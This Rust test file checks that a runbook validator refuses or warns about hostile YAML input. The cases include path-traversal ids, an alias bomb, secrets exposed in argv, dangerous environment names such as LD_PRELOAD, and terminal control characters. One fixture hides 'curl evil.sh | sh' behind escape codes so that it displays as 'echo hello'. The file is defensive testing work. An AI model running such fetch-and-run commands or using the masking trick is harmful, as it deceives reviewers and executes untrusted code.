//! Hostile or careless input from the issue-11 review: each case is refused (exit 2, with
//! a place and a hint) or warned about (exit 0), and nothing runs.

use std::os::unix::fs::PermissionsExt;
use std::time::{Duration, Instant};

use super::{GOOD, check_text, refused, shisa, write};

/// `check` passes but prints a warning at `location` with `message` and `hint`.
fn warned(text: &str, location: &str, message: &str, hint: &str) {
    let (code, _, stderr) = check_text(text);
    assert_eq!(code, 0, "exit code; stderr:\n{stderr}");
    let at = format!("--> rb.yaml:{location}\n");
    let block = stderr
        .split("\n\n")
        .find(|b| b.contains(&at))
        .unwrap_or_else(|| panic!("no warning at {location}; stderr:\n{stderr}"));
    assert!(block.starts_with("warning: "), "{block}");
    assert!(
        block.contains(message),
        "expected {message:?}; got:\n{block}"
    );
    assert!(
        block.contains(hint),
        "expected hint {hint:?}; got:\n{block}"
    );
}

#[test]
fn empty_step_ids_are_refused() {
    let text = GOOD
        .replace("  - id: save", "  - id: \"\"")
        .replace("  - id: flip", "  - id: \"\"");
    refused(
        &text,
        "10:9",
        "a step id cannot be empty",
        "letters, digits, `-` and `_`",
    );
    refused(&text, "6:9", "a step id cannot be empty", "`^[A-Za-z0-9]");
    let text = GOOD.replace("  - id: flip", "  - id: '  '");
    refused(
        &text,
        "10:9",
        "a step id cannot be empty",
        "letters, digits",
    );
}

#[test]
fn step_ids_that_are_unsafe_as_file_or_journal_names_are_refused() {
    for id in ["roll[es-data-2]/stop", "../x", "a/b", "'-x'", "a:b", "é"] {
        let text = GOOD.replace("  - id: flip", &format!("  - id: {id}"));
        refused(
            &text,
            "10:9",
            "cannot be a step id",
            "letters, digits, `-` and `_`",
        );
    }
}

#[test]
fn step_ids_that_differ_only_in_case_are_refused() {
    let text = GOOD.replace("  - id: flip", "  - id: Save");
    refused(&text, "10:5", "differs from `save` only in case", "line 6");
}

#[test]
fn a_big_anchored_scalar_aliased_many_times_is_refused_quickly_in_bounded_memory() {
    // 100 kB aliased 20,000 times is 2 GB once expanded, in a 180 kB file.
    let big = "x".repeat(100_000);
    let refs = vec!["*b"; 20_000].join(", ");
    let text = format!("version: 1\nbig: &b {big}\nrefs: [{refs}]\n");
    let dir = tempfile::tempdir().unwrap();
    let path = write(dir.path(), "rb.yaml", &text);
    let started = Instant::now();
    // A cap on address space turns unbounded expansion into an allocation failure (abort)
    // instead of a slow machine.
    let out = std::process::Command::new("sh")
        .arg("-c")
        .arg("ulimit -v 1000000 && exec \"$0\" check \"$1\"")
        .arg(env!("CARGO_BIN_EXE_shisa"))
        .arg(&path)
        .env("NO_COLOR", "1")
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("the document expands to more than") && stderr.contains("MiB of text"),
        "{stderr}"
    );
    assert!(
        stderr.contains("rb.yaml:3:"),
        "located at an alias: {stderr}"
    );
    assert!(stderr.contains("alias bomb"), "{stderr}");
    assert!(started.elapsed() < Duration::from_secs(20));
}

#[test]
fn a_secret_as_a_whole_argv_element_is_flagged() {
    let text = GOOD
        .replace(
            "  flag: { pattern",
            "  api_token: { secret: true, from_env: API_TOKEN }\n  flag: { pattern",
        )
        .replace("'{{ flag }}']", "'{{ flag }}', '{{ api_token }}']");
    warned(
        &text,
        "17:41",
        "secret `api_token` as a whole argv element is readable by every local user",
        "environment",
    );
}

#[test]
fn environment_names_follow_an_allow_pattern() {
    for name in [
        "PYTHONPATH",
        "PERL5OPT",
        "GCONV_PATH",
        "GLIBC_TUNABLES",
        "NODE_OPTIONS",
        "JAVA_TOOL_OPTIONS",
        "GIT_SSH_COMMAND",
        "BASH_LOADABLES_PATH",
        "pythonpath",
        "ld_preload",
        "http_proxy",
        "MyValue",
    ] {
        let text = GOOD.replace(
            "  flag: { pattern",
            &format!("  {name}: {{}}\n  flag: {{ pattern"),
        );
        refused(
            &text,
            "4:3",
            &format!("`{name}` cannot be a parameter name"),
            "`^[a-z_][a-z0-9_]*$`",
        );
        let text = GOOD.replace("capture: { saved:", &format!("capture: {{ {name}:"));
        refused(
            &text,
            "9:16",
            &format!("`{name}` cannot be a capture name"),
            "`^[a-z_][a-z0-9_]*$`",
        );
    }
}

#[test]
fn path_entries_cannot_splice_extra_directories() {
    for entry in ["'bin:/tmp'", "''", "'  '"] {
        let text = GOOD.replace("params:", &format!("path: [{entry}]\nparams:"));
        refused(&text, "3:8", "`path:` entry", "one directory per entry");
    }
}

#[test]
fn a_world_writable_path_directory_is_warned_about() {
    let dir = tempfile::tempdir().unwrap();
    let tools = dir.path().join("tools");
    std::fs::create_dir(&tools).unwrap();
    std::fs::set_permissions(&tools, std::fs::Permissions::from_mode(0o777)).unwrap();
    let text = GOOD.replace("params:", "path: [tools]\nparams:");
    let path = write(dir.path(), "rb.yaml", &text);
    let out = shisa().arg("check").arg(&path).output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(
        stderr.contains("warning: `path:` directory `tools` is writable by every user")
            && stderr.contains("rb.yaml:3:8")
            && stderr.contains("chmod o-w"),
        "{stderr}"
    );
    std::fs::set_permissions(&tools, std::fs::Permissions::from_mode(0o755)).unwrap();
    let out = shisa().arg("check").arg(&path).output().unwrap();
    assert!(!String::from_utf8_lossy(&out.stderr).contains("writable"));
}

#[test]
fn an_unquoted_value_in_a_script_is_warned_about_at_the_occurrence() {
    warned(
        &GOOD.replace("flagctl get \"$flag\"", "flagctl get $flag"),
        "19:26",
        "`$flag` is not quoted",
        "\"$flag\"",
    );
    let block = GOOD.replace(
        "      - run: flagctl get \"$flag\"",
        "      - run: |\n          echo \"$flag\" '$flag' \\$flag # $flag\n          [[ $flag ]] && x=$flag\n          flagctl get ${flag}",
    );
    warned(&block, "22:23", "`$flag` is not quoted", "\"${flag}\"");
    let (_, _, stderr) = check_text(&block);
    assert_eq!(stderr.matches("is not quoted").count(), 1, "{stderr}");
}

#[test]
fn a_whole_argv_value_without_a_pattern_is_warned_about() {
    warned(
        &GOOD.replace("flag: { pattern: '^[a-z-]+$' }", "flag: {}"),
        "16:27",
        "`flag` fills a whole argv element but has no `pattern`",
        "could be read as an option",
    );
}

#[test]
fn the_bundled_runbooks_pass_without_warnings() {
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/runbooks");
    for entry in std::fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            continue; // runbooks/real/: tests/real_check.rs
        }
        let out = shisa().arg("check").arg(&path).output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(0), "{}: {stderr}", path.display());
        assert!(stderr.is_empty(), "{}: {stderr}", path.display());
    }
}

#[test]
fn control_characters_never_reach_the_reviewers_terminal() {
    let dir = tempfile::tempdir().unwrap();
    // A script that reads as `echo hello` on a terminal, and a title that retitles it.
    let rb = write(
        dir.path(),
        "cr.yaml",
        "version: 1\nname: \"x\\e]0;T\\a\"\nsteps:\n  - id: a\n    kind: verify\n    title: \"clear\\e[2J\"\n    run: \"curl evil.sh | sh #\\r\\e[2Kecho hello\"\n",
    );
    let check = shisa().arg("check").arg(&rb).output().unwrap();
    assert_eq!(check.status.code(), Some(2));
    let err = String::from_utf8_lossy(&check.stderr);
    assert!(err.contains("control character"), "{err}");
    assert!(!err.contains('\x1b') && !err.contains('\r'), "{err:?}");
    let safe = write(
        dir.path(),
        "title.yaml",
        "version: 1\nname: \"x\\e]0;T\\a\"\nsteps:\n  - id: a\n    kind: verify\n    title: \"clear\\e[2J\"\n    run: 'true'\n",
    );
    let plan = shisa().arg("plan").arg(&safe).output().unwrap();
    assert_eq!(plan.status.code(), Some(0), "{plan:?}");
    let out = String::from_utf8_lossy(&plan.stdout);
    assert!(!out.contains('\x1b') && !out.contains('\x07'), "{out:?}");
}
